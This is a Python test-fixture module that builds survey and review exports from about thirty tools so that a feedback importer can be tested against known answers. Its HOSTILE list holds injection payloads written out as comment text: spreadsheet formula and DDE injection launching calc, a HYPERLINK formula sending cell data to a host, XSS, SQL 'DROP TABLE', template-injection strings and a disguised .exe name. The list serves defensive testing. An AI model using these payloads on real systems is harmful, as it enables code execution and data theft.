"""Files as the tools write them, made from known answers by seeded code: what goes in is what must come out.

Every writer gets the same kind of answers; a test compares the answers with what the importer reads. ``good`` is the plain
export, ``dirty`` what people do to it, ``hostile`` what a customer may write into it.
"""

from __future__ import annotations

import csv
import io
import json
import random
import unicodedata
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl

VIETNAM = ZoneInfo("Asia/Ho_Chi_Minh")

WORDS = (
    "Nhân viên nhiệt tình, giao hàng hơi chậm",
    "Chờ quá lâu; gọi tổng đài không ai nghe máy",
    "Rất ưng, sẽ quay lại",
    "Delivery was late but the staff were kind",
    "Ứng dụng hay bị đơ khi thanh toán",
    "San pham dung mo ta, dong goi dep",
    'Anh giao hàng nói "mai quay lại" rồi thôi',
    "",
)
HOSTILE = (
    "=1+1",
    "+1 cho nhân viên",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"Click")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) ![a](http://127.0.0.1/p.png)",
    "'; DROP TABLE feedback;--",
    "%s %(x)s {0} {{7*7}} ${7*7}",
    "\u202egpj.exe\u202c tốt",
    "👩‍👩‍👧‍👦 🇻🇳 tuyệt",
    "e\u0301\u0301\u0301" * 20,
    "Tổng cộng là tệ",
    "dòng một\ndòng hai\n\ndòng bốn",
    "x" * 5_000,
)


@dataclass(frozen=True)
class Answer:
    """One answer as the customer gave it. ``at`` is an instant; ``score`` None: no score; ``score_text``: as written."""

    number: int
    at: datetime
    score: int | None
    words: str
    customer: str = ""
    score_text: str | None = None

    @property
    def written(self) -> str:
        """The score as it stands in the file."""
        if self.score_text is not None:
            return self.score_text
        return "" if self.score is None else str(self.score)

    def local(self, zone: ZoneInfo = VIETNAM) -> datetime:
        """The wall-clock time in a zone."""
        return self.at.astimezone(zone).replace(tzinfo=None)


def answers(lowest: int, highest: int, *, seed: int = 1, count: int = 40) -> list[Answer]:
    """Make answers that use the whole scale, with days that prove their order."""
    chance = random.Random(seed)
    first = datetime(2026, 3, 1, 1, 30, 7, tzinfo=UTC)
    made = []
    for number in range(count):
        score = lowest + number if number <= highest - lowest else chance.randint(lowest, highest)
        at = first + timedelta(hours=19 * number, seconds=number)
        words = WORDS[number % len(WORDS)]
        made.append(Answer(number, at, score, f"{words}, lần {number}" if words else "", f"KH{number % 17:05d}"))
    return made


def dirty(given: Sequence[Answer], missing: Sequence[str] = ("", "N/A", "-")) -> list[Answer]:
    """Do to answers what people and tools do: blanks around, no score in several spellings, decomposed letters."""
    made = []
    for answer in given:
        if answer.number % 7 == 3:
            text = missing[answer.number // 7 % len(missing)]
            made.append(replace(answer, score=None, score_text=text, words=answer.words or "có lời"))
        elif answer.number % 7 == 5:
            made.append(replace(answer, words=f"\u00a0 {unicodedata.normalize('NFD', answer.words)} "))
        else:
            made.append(answer)
    return made


def hostile(given: Sequence[Answer]) -> list[Answer]:
    """Give answers the words of somebody who means harm."""
    return [replace(answer, words=HOSTILE[answer.number % len(HOSTILE)]) for answer in given]


Writer = Callable[[Sequence[Answer]], bytes]


@dataclass(frozen=True)
class Tool:
    """How one tool writes answers, and what the importer must say about them."""

    profile: str
    ending: str
    write: Writer
    role: str
    scale: tuple[int, int]
    header_rows: tuple[int, ...] = (1,)
    zone: str = "Asia/Ho_Chi_Minh"
    #: Answers to the questions this export cannot do without.
    replies: dict[str, str] = field(default_factory=dict)
    has_dates: bool = True
    to_the_day: bool = False
    has_customer: bool = False
    missing: tuple[str, ...] = ("", "N/A", "-")
    extra_rows: int = 0
    only: str = ""


def as_csv(
    rows: Sequence[Sequence[object]], delimiter: str = ",", *, quote_all: bool = False, ends: str = "\r\n"
) -> str:
    """Write rows as delimited text."""
    out = io.StringIO()
    quoting = csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
    csv.writer(out, delimiter=delimiter, quoting=quoting, lineterminator=ends).writerows(rows)
    return out.getvalue()


def as_xlsx(rows: Sequence[Sequence[object]], sheet: str = "Sheet1", merges: Sequence[str] = ()) -> bytes:
    """Write rows as a workbook; text stays text, whatever it begins with."""
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.title = sheet
    for number, row in enumerate(rows, 1):
        for column, value in enumerate(row, 1):
            if value in (None, ""):
                continue
            cell = page.cell(number, column)
            cell.value = value  # type: ignore[assignment]
            if isinstance(value, str):
                cell.data_type = "s"
    for area in merges:
        page.merge_cells(area)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _number(text: str) -> object:
    """A score in a workbook is a number where it is one."""
    return int(text) if text.isdecimal() else text


def google_forms_vi(given: Sequence[Answer]) -> bytes:
    """A Vietnamese account's answers as a workbook: true dates."""
    head = ["Dấu thời gian", "Bạn sẵn sàng giới thiệu chúng tôi ở mức nào? (0-10) ", "Góp ý của bạn"]
    rows = [[a.local(), _number(a.written), a.words] for a in given]
    return as_xlsx([head, *rows], "Câu trả lời biểu mẫu 1")


def google_forms_en(given: Sequence[Answer]) -> bytes:
    """An American account's answers as CSV: month first, no zero before one digit."""
    head = ["Timestamp", "How likely are you to recommend us to a friend? (0 - 10)", "Any comments?"]
    rows = [[f"{a.local().month}/{a.local().day}/{a.local():%Y %H:%M:%S}", a.written, a.words] for a in given]
    return as_csv([head, *rows]).encode()


def microsoft_forms(given: Sequence[Answer]) -> bytes:
    """Microsoft Forms as a workbook."""
    head = [
        "ID",
        "Start time",
        "Completion time",
        "Email",
        "Name",
        "How likely are you to recommend us? (0-10)",
        "Comments",
    ]
    rows = [
        [a.number + 1, a.local() - timedelta(minutes=2), a.local(), "anonymous", "", _number(a.written), a.words]
        for a in given
    ]
    return as_xlsx([head, *rows])


def survey_monkey(given: Sequence[Answer]) -> bytes:
    """SurveyMonkey's expanded CSV: two header rows."""
    head = [
        "Respondent ID", "Collector ID", "Start Date", "End Date", "IP Address", "Email Address", "First Name", "Last Name",
        "Overall, how <b>satisfied</b> are you with us? (1-5)", "What could we do better?",
    ]  # fmt: skip
    below = ["", "", "", "", "", "", "", "", "Response", "Open-Ended Response"]
    rows = [
        [
            11800000000 + a.number, 4390, f"{a.local():%m/%d/%Y %I:%M:%S %p}", f"{a.local():%m/%d/%Y %I:%M:%S %p}",
            "10.0.0.1", "", "Lan", "Nguyễn", a.written, a.words,
        ]
        for a in given
    ]  # fmt: skip
    return as_csv([head, below, *rows]).encode("utf-8-sig")


def qualtrics(given: Sequence[Answer]) -> bytes:
    """Qualtrics' CSV: three header rows, times in Denver, two previews in front."""
    denver = ZoneInfo("America/Denver")
    head = [
        "StartDate",
        "EndDate",
        "Status",
        "IPAddress",
        "Progress",
        "Finished",
        "RecordedDate",
        "ResponseId",
        "Q1",
        "Q1_NPS_GROUP",
        "Q2",
    ]
    texts = [
        "Anfangsdatum", "Enddatum", "Antworttyp", "IP-Adresse", "Fortschritt", "Abgeschlossen", "Aufgezeichnetes Datum",
        "Antwort-ID", "How likely is it\nthat you would recommend us? (0-10)", "NPS group", "Please tell us why",
    ]  # fmt: skip
    ids = [json.dumps({"ImportId": name, "timeZone": "America/Denver"}) for name in head]

    def row(a: Answer, status: str) -> list[object]:
        when = f"{a.local(denver):%Y-%m-%d %H:%M:%S}"
        group = "" if a.score is None else "Promoter" if a.score > 8 else "Passive" if a.score > 6 else "Detractor"
        return [when, when, status, "10.0.0.1", 100, "True", when, f"R_{a.number:015d}", a.written, group, a.words]

    previews = [row(replace(given[0], number=900 + n), "Survey Preview") for n in range(2)]
    return as_csv([head, texts, ids, *previews, *(row(a, "IP Address") for a in given)]).encode()


def qualtrics_legacy(given: Sequence[Answer]) -> bytes:
    """Qualtrics' old CSV: codes above the names, an empty column at the end."""
    codes = ["V1", "V2", "V3", "V4", "V5", "V8", "V9", "V10", "Q1", "Q2", ""]
    names = [
        "ResponseID", "ResponseSet", "Name", "ExternalDataReference", "EmailAddress", "StartDate", "EndDate", "Finished",
        "How satisfied are you with our service? (1-5)", "Why?", "",
    ]  # fmt: skip
    rows = [
        [
            f"R_{a.number:015d}", "Default Response Set", "Anonymous", "", "", f"{a.local():%Y-%m-%d %H:%M:%S}",
            f"{a.local():%Y-%m-%d %H:%M:%S}", "1", a.written, a.words, "",
        ]
        for a in given
    ]  # fmt: skip
    return as_csv([codes, names, *rows]).encode("utf-8-sig")


def typeform(given: Sequence[Answer]) -> bytes:
    """Typeform's CSV: newest first, times in UTC, names that repeat."""
    head = [
        "#", "How likely are you to *recommend* us?", "Other", "Other", "What is the main reason?", "Start Date (UTC)",
        "Submit Date (UTC)", "Network ID", "Tags",
    ]  # fmt: skip
    rows = [
        [
            f"{a.number:032x}",
            a.written,
            "",
            "",
            a.words,
            f"{a.at:%Y-%m-%d %H:%M:%S}",
            f"{a.at:%Y-%m-%d %H:%M:%S}",
            "ab12",
            "",
        ]
        for a in reversed(given)
    ]
    return as_csv([head, *rows], ends="\n").encode()


def lime_survey(given: Sequence[Answer]) -> bytes:
    """LimeSurvey's CSV: a byte-order mark, semicolons, everything quoted."""
    head = [
        "id",
        "submitdate",
        "lastpage",
        "startlanguage",
        "seed",
        "startdate",
        "datestamp",
        "csat[SQ001]",
        "gopy[other]",
    ]
    head[7], head[8] = "Mức độ hài lòng của bạn (1-5)", "Góp ý"
    rows = [
        [a.number + 1, f"{a.local():%Y-%m-%d %H:%M:%S}", 3, "vi", 123456, "", "", a.written, a.words] for a in given
    ]
    return as_csv([head, *rows], ";", quote_all=True).encode("utf-8-sig")


def kobo(given: Sequence[Answer]) -> bytes:
    """KoboToolbox's CSV: semicolons, a summary column and one column a choice, the machine's own columns."""
    return as_csv(_kobo_rows(given), ";", quote_all=True).encode()


def kobo_resaved(given: Sequence[Answer]) -> bytes:
    """The same after Excel has opened and saved it: each row whole in one quoted cell."""
    lines = as_csv(_kobo_rows(given), ";", quote_all=True, ends="\x00").rstrip("\x00").split("\x00")
    return as_csv([[line] for line in lines], quote_all=True).encode()


def _kobo_rows(given: Sequence[Answer]) -> list[list[object]]:
    head = [
        "start", "end", "Mức độ hài lòng (1-5)", "Kênh", "Kênh/Zalo", "Kênh/Web", "Ý kiến", "_id", "_uuid",
        "_submission_time", "_validation_status", "_status", "_submitted_by", "__version__", "_tags", "_index",
    ]  # fmt: skip
    return [
        head,
        *(
            [
                a.local().isoformat() + ".000+07:00", a.local().isoformat() + ".000+07:00", a.written, "Zalo", "1", "0",
                a.words, 5000 + a.number, f"8d2f0000-0000-4000-8000-{a.number:012d}", f"{a.at:%Y-%m-%dT%H:%M:%S}", "",
                "submitted_via_web", "", "vA1", "", a.number + 1,
            ]
            for a in given
        ),
    ]  # fmt: skip


def jotform(given: Sequence[Answer]) -> bytes:
    """Jotform's CSV: the month in words."""
    head = ["Submission Date", "Mức độ hài lòng (1-5)", "Góp ý", "Submission ID"]
    rows = [[f"{a.local():%b %d, %Y %H:%M:%S}", a.written, a.words, 58000000000000000 + a.number] for a in given]
    return as_csv([head, *rows]).encode()


def zendesk(given: Sequence[Answer]) -> bytes:
    """A help desk's tickets with 1 to 5; long ids."""
    head = [
        "Id",
        "Requester id",
        "Group",
        "Status",
        "Priority",
        "Via",
        "Created at",
        "Satisfaction Score",
        "Satisfaction Comment",
    ]
    rows = [
        [
            10000240000 + a.number, a.customer, "Tổng đài", "Closed", "Normal", "Phone call",
            f"{a.local():%Y-%m-%d %H:%M:%S}", a.written, a.words,
        ]
        for a in given
    ]  # fmt: skip
    return as_csv([head, *rows]).encode()


def zendesk_legacy(given: Sequence[Answer]) -> bytes:
    """The same help desk before it counted to five: Good and Bad."""
    text = {None: "", 1: "Bad", 2: "Good"}
    return zendesk([replace(a, score_text=a.score_text if a.score_text is not None else text[a.score]) for a in given])


def chatwoot(given: Sequence[Answer]) -> bytes:
    """Chatwoot's satisfaction report."""
    head = [
        "Agent Name",
        "Rating",
        "Feedback",
        "Contact Name",
        "Contact Email Address",
        "Link to the conversation",
        "Recorded date",
    ]
    rows = [
        ["Minh", a.written, a.words, "Lan", "", f"chat/{a.number}", f"{a.local():%Y-%m-%d %H:%M:%S}"] for a in given
    ]
    return as_csv([head, *rows]).encode()


def delighted(given: Sequence[Answer]) -> bytes:
    """Delighted's CSV with one survey type."""
    head = ["ID", "Person ID", "Survey type", "Score", "Comment", "Permalink", "Submitted at"]
    rows = [
        [7000 + a.number, a.customer, "nps", a.written, a.words, "", f"{a.local():%Y-%m-%d %H:%M:%S}"] for a in given
    ]
    return as_csv([head, *rows]).encode()


def medallia(given: Sequence[Answer]) -> bytes:
    """Medallia Agent Connect's CSV, UTC."""
    head = [
        "request_id", "request_sent_at", "request_delivery_status", "response_received_at", "star_rating", "comments",
        "channel", "brand", "customer_name", "feedback_text",
    ]  # fmt: skip
    rows = [
        [
            f"req-{a.number:06d}",
            "",
            "sent",
            f"{a.at:%Y-%m-%d %H:%M:%S}",
            a.written,
            "true",
            "email",
            "Gác Thóc",
            "Lan",
            a.words,
        ]
        for a in given
    ]
    return as_csv([head, *rows]).encode()


def hotjar(given: Sequence[Answer]) -> bytes:
    """Hotjar's CSV."""
    head = [
        "Number",
        "User",
        "Date Submitted",
        "Country",
        "Source URL",
        "Device",
        "Browser",
        "OS",
        "How likely are you to recommend us? (0-10)",
        "Why?",
    ]
    rows = [
        [
            a.number + 1,
            "",
            f"{a.local():%Y-%m-%d %H:%M:%S}",
            "Vietnam",
            "shop/",
            "mobile",
            "Chrome",
            "Android",
            a.written,
            a.words,
        ]
        for a in given
    ]
    return as_csv([head, *rows]).encode()


def google_play(given: Sequence[Answer]) -> bytes:
    """The console's monthly file: UTF-16 with a mark; the zone stands in the values."""
    head = [
        "Package Name", "App Version Name", "Reviewer Language", "Device", "Review Submit Date and Time",
        "Review Submit Millis Since Epoch", "Star Rating", "Review Title", "Review Text", "Developer Reply Text", "Review Link",
    ]  # fmt: skip
    rows = [
        [
            "vn.example",
            "1.2",
            "vi",
            "a1",
            f"{a.at:%Y-%m-%dT%H:%M:%SZ}",
            int(a.at.timestamp() * 1000),
            a.written,
            "",
            a.words,
            "Cảm ơn",
            f"play/{a.number}",
        ]
        for a in given
    ]
    return as_csv([head, *rows]).encode("utf-16")


def google_play_scraper(given: Sequence[Answer]) -> bytes:
    """Two generations of the scraper in one file: half of the answers in each pair of columns."""
    head = [
        "reviewId", "userName", "content", "score", "thumbsUpCount", "at", "replyContent", "comments", "created_at",
        "thumbs_up_count",
    ]  # fmt: skip
    rows = []
    for a in given:
        when, new = f"{a.local():%Y-%m-%d %H:%M:%S}", a.number % 2 == 0
        rows.append(
            [
                f"gp:{a.number}",
                "Lan",
                a.words if new else "",
                a.written,
                0,
                when if new else "",
                "",
                "" if new else a.words,
                "" if new else when,
                0,
            ]
        )
    return as_csv([head, *rows]).encode()


def app_store(given: Sequence[Answer]) -> bytes:
    """A scraper's file without dates, stars as floats, an unnamed counter in front."""
    head = ["", "App", "Rating", "Comment"]
    rows = [[a.number, "shop", f"{a.score}.0" if a.score is not None else a.written, a.words] for a in given]
    return as_csv([head, *rows], ends="\n").encode()


def google_business(given: Sequence[Answer]) -> bytes:
    """The owner's own takeout: stars in words, times with a zone."""
    words = {1: "ONE", 2: "TWO", 3: "THREE", 4: "FOUR", 5: "FIVE"}
    reviews = [
        {
            "name": f"accounts/1/locations/2/reviews/{a.number}",
            "reviewer": {"displayName": "Lan"},
            "starRating": words[a.score] if a.score else a.written,
            "comment": a.words,
            "createTime": f"{a.at:%Y-%m-%dT%H:%M:%S.123456Z}",
        }
        for a in given
    ]
    return json.dumps({"reviews": reviews}).encode()


def shopee(given: Sequence[Answer]) -> bytes:
    """A scraper's file of a marketplace: seconds since 1970."""
    head = ["cmtid", "item_id", "shop_id", "comment", "rating_star", "author_username", "ctime"]
    rows = [[90000 + a.number, 1, 2, a.words, a.written, "l***n", int(a.at.timestamp())] for a in given]
    return as_csv([head, *rows]).encode()


def lazada(given: Sequence[Answer]) -> bytes:
    """Another marketplace's reviews as JSON lines."""
    lines = [
        {
            "reviewRateId": 500 + a.number, "rating": a.score if a.score is not None else a.written, "reviewContent": a.words,
            "reviewTime": f"{a.local():%Y-%m-%d %H:%M:%S}", "buyerName": "L***n", "skuInfo": "Màu: Đỏ",
        }
        for a in given
    ]  # fmt: skip
    return "\n".join(json.dumps(line, ensure_ascii=False) for line in lines).encode()


def tiki(given: Sequence[Answer]) -> bytes:
    """A third one: the stars in words stand in the title."""
    titles = {
        1: "Rất không hài lòng",
        2: "Không hài lòng",
        3: "Bình thường",
        4: "Hài lòng",
        5: "Cực kì hài lòng",
        None: "",
    }
    head = ["id", "title", "content", "rating", "thank_count", "created_at", "customer_id", "product_id"]
    rows = [
        [300 + a.number, titles[a.score], a.words, a.written, 0, int(a.at.timestamp()), 70 + a.number, 11]
        for a in given
    ]
    return as_csv([head, *rows]).encode()


def facebook(given: Sequence[Answer]) -> bytes:
    """Recommendations of a page: yes or no."""
    kinds = {1: "negative", 2: "positive", None: ""}
    data = [
        {
            "created_time": f"{a.at:%Y-%m-%dT%H:%M:%S+0000}", "recommendation_type": kinds[a.score], "review_text": a.words,
            "reviewer": {"name": "Lan", "id": str(a.number)},
        }
        for a in given
    ]  # fmt: skip
    return json.dumps({"data": data, "paging": {"cursors": {"before": "x"}}}).encode()


def zalo_zns(given: Sequence[Answer]) -> bytes:
    """Zalo's ratings: milliseconds as text."""
    data = [
        {
            "note": a.words, "rate": a.score if a.score is not None else a.written, "submitDate": str(int(a.at.timestamp() * 1000)),
            "msgId": f"m{a.number:012d}", "feedbacks": [], "trackingId": f"DH{a.number:06d}",
        }
        for a in given
    ]  # fmt: skip
    return json.dumps({"error": 0, "message": "Success", "data": {"total": len(data), "data": data}}).encode()


def smiley(given: Sequence[Answer]) -> bytes:
    """A terminal at the counter: five faces."""
    faces = {1: "😡", 2: "🙁", 3: "😐", 4: "🙂", 5: "😍", None: ""}
    head = ["Thời gian", "Chi nhánh", "Điểm chạm", "Mặt cười", "Góp ý"]
    rows = [
        [
            f"{a.local():%d/%m/%Y %H:%M:%S}",
            "CN1",
            "Thu ngân",
            a.score_text if a.score_text is not None else faces[a.score],
            a.words,
        ]
        for a in given
    ]
    return as_csv([head, *rows]).encode()


def hand_kept(given: Sequence[Answer]) -> bytes:
    """A sheet by hand: title, merged header, STT, a total after every tenth row, scores in four spellings."""
    spell = ["{}/10", "{} điểm", "{}", "{} đ"]
    rows: list[list[object]] = [
        ["SỔ GÓP Ý KHÁCH HÀNG", "", "", "", "", ""],
        ["", "", "", "", "", ""],
        ["STT", "Ngày", "Cửa hàng", "Phản hồi", "", ""],
        ["", "", "", "Điểm hài lòng (thang 10)", "Ý kiến", "Ghi chú nội bộ"],
    ]
    for place, a in enumerate(given):
        score: object = a.written if a.score is None else spell[place % 4].format(a.score)
        day: object = a.local().replace(hour=0, minute=0, second=0) if place % 3 else f"{a.local():%d/%m/%Y}"
        rows.append([place + 1, day, f"CH{place % 3 + 1}", score, a.words, "x"])
        if place % 10 == 9:
            rows.append(["", "", f"Tổng cộng tháng {place // 10 + 1}", 10, "", ""])
    return as_xlsx(rows, "Sổ góp ý", ["A1:F1", "D3:F3"])


TOOLS: dict[str, Tool] = {
    "google_forms_vi": Tool("google_forms", "xlsx", google_forms_vi, "nps", (0, 10)),
    "google_forms_en": Tool("google_forms", "csv", google_forms_en, "nps", (0, 10)),
    "microsoft_forms": Tool("microsoft_forms", "xlsx", microsoft_forms, "nps", (0, 10)),
    "survey_monkey": Tool("survey_monkey", "csv", survey_monkey, "csat", (1, 5), (1, 2)),
    "qualtrics": Tool("qualtrics", "csv", qualtrics, "nps", (0, 10), (1, 2, 3), extra_rows=2),
    "qualtrics_legacy": Tool("qualtrics", "csv", qualtrics_legacy, "csat", (1, 5), (1, 2)),
    "typeform": Tool("typeform", "csv", typeform, "nps", (0, 10), zone="UTC"),
    "lime_survey": Tool("lime_survey", "csv", lime_survey, "csat", (1, 5)),
    "kobo": Tool("kobo_toolbox", "csv", kobo, "csat", (1, 5)),
    "kobo_resaved": Tool("kobo_toolbox", "csv", kobo_resaved, "csat", (1, 5)),
    "jotform": Tool("jotform", "csv", jotform, "csat", (1, 5)),
    "zendesk": Tool(
        "zendesk", "csv", zendesk, "csat", (1, 5), has_customer=True, missing=("Offered", "Unoffered", "-", "")
    ),
    "zendesk_legacy": Tool(
        "zendesk", "csv", zendesk_legacy, "csat", (1, 2), missing=("Offered", "Unoffered", "Not Offered")
    ),
    "chatwoot": Tool("chatwoot", "csv", chatwoot, "csat", (1, 5)),
    "delighted": Tool("delighted", "csv", delighted, "nps", (0, 10), has_customer=True),
    "medallia": Tool("medallia_agent", "csv", medallia, "rating", (1, 5)),
    "hotjar": Tool("hotjar", "csv", hotjar, "nps", (0, 10)),
    "google_play": Tool("google_play", "csv", google_play, "rating", (1, 5)),
    "google_play_scraper": Tool("google_play_scraper", "csv", google_play_scraper, "rating", (1, 5)),
    "app_store": Tool("app_store", "csv", app_store, "rating", (1, 5), has_dates=False),
    "google_business": Tool("google_business", "json", google_business, "rating", (1, 5), ()),
    "shopee": Tool("shopee", "csv", shopee, "rating", (1, 5)),
    "lazada": Tool("lazada", "jsonl", lazada, "rating", (1, 5), ()),
    "tiki": Tool("tiki", "csv", tiki, "rating", (1, 5), has_customer=True),
    "facebook": Tool("facebook", "json", facebook, "rating", (1, 2), (), missing=("",)),
    "zalo_zns": Tool("zalo_zns", "json", zalo_zns, "rating", (1, 5), ()),
    "smiley": Tool("smiley", "csv", smiley, "rating", (1, 5)),
    "hand_kept": Tool("hand_kept", "xlsx", hand_kept, "csat", (1, 10), (3, 4), to_the_day=True, extra_rows=4),
}
